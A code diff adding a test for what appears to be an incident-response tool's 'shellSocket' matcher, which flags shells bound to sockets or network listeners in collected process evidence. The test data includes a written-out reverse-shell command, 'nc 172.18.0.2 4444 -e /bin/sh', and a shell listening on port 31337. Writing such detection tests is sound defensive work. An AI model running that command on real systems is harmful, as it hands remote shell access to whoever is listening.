@@ -448,3 +448,70 @@ describe('exec sessions in bursts', () => {
     expect(m.match(m.params.parse({ burstSeconds: 0 }), ev)).toHaveLength(4);
   });
 });
+
+describe('shells wired to the network', () => {
+  const p = (
+    pid: number,
+    comm: string,
+    cmdline: string[],
+    fds: { fd: number; target: string }[] = [],
+  ) => ({
+    pid,
+    nspid: pid,
+    ppid: 1,
+    comm,
+    cmdline,
+    exe: null,
+    entry: pid,
+    fds,
+  });
+  test('a shell on a socket, nc -e, a listening shell; a shell on a tty and a plain nc are not', () => {
+    const ev = evidence({
+      processes: {
+        artifact: 'proc/processes.json',
+        list: [
+          p(
+            7,
+            'sh',
+            ['sh'],
+            [
+              { fd: 0, target: 'socket:[4242]' },
+              { fd: 1, target: 'socket:[4242]' },
+              { fd: 2, target: 'socket:[4242]' },
+            ],
+          ),
+          p(8, 'sh', ['sh', '-i'], [{ fd: 0, target: '/dev/pts/0' }]),
+          p(9, 'nc', ['nc', '172.18.0.2', '4444', '-e', '/bin/sh']),
+          p(10, 'nc', ['nc', '-l', '-p', '8080']),
+        ],
+      },
+      sockets: [
+        {
+          proto: 'tcp',
+          localAddress: '0.0.0.0',
+          localPort: 31337,
+          remoteAddress: null,
+          remotePort: null,
+          state: 'LISTEN',
+          processes: ['sh'],
+          phase: 'before-isolation',
+          artifact: 'net/before-isolation/sockets.json',
+          entry: 0,
+        },
+      ],
+    });
+    const m = matchers.get('shellSocket')!;
+    const found = m.match(m.params.parse(true), ev);
+    expect(found.map((f) => f.key)).toEqual([
+      'fd-7',
+      'nc-9',
+      'listen-before-isolation-0.0.0.0:31337',
+    ]);
+    expect(found[0].summary).toMatch(
+      /stdin, stdout, stderr on a socket \(socket:\[4242\]\): a reverse or bind shell/,
+    );
+    expect(found[1].summary).toMatch(
+      /runs a program for whoever connects: nc 172\.18\.0\.2 4444 -e \/bin\/sh/,
+    );
+  });
+});
